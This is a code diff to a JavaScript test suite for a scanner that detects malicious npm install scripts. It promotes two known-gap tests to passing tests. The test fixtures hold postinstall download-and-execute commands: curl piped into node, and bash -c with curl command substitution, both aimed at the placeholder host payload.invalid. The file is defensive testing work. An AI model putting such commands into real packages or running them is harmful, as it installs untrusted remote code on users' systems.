@@ -95,15 +95,13 @@ describe('install-scripts reports', () => {
     ]);
   });
 
-  // Known gap: SHELL_DOWNLOAD only knows pipes into sh/bash/zsh/dash, not into node/python/perl.
-  test.fails('curl piped into node is a download-and-execute', () => {
+  test('curl piped into node is a download-and-execute', () => {
     const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://payload.invalid/x.js | node' } }) });
     expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download']));
     expect(r.verdict).toBe('malicious');
   });
 
-  // Known gap: SHELL_DOWNLOAD does not match command substitution, `bash -c "$(curl ...)"`.
-  test.fails('bash -c "$(curl ...)" is a download-and-execute', () => {
+  test('bash -c "$(curl ...)" is a download-and-execute', () => {
     const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'bash -c "$(curl -fsSL https://payload.invalid/install.sh)"' } }) });
     expect(r.of(RULE)).toContainEqual(finding('critical', ['install-shell-download']));
     expect(r.verdict).toBe('malicious');
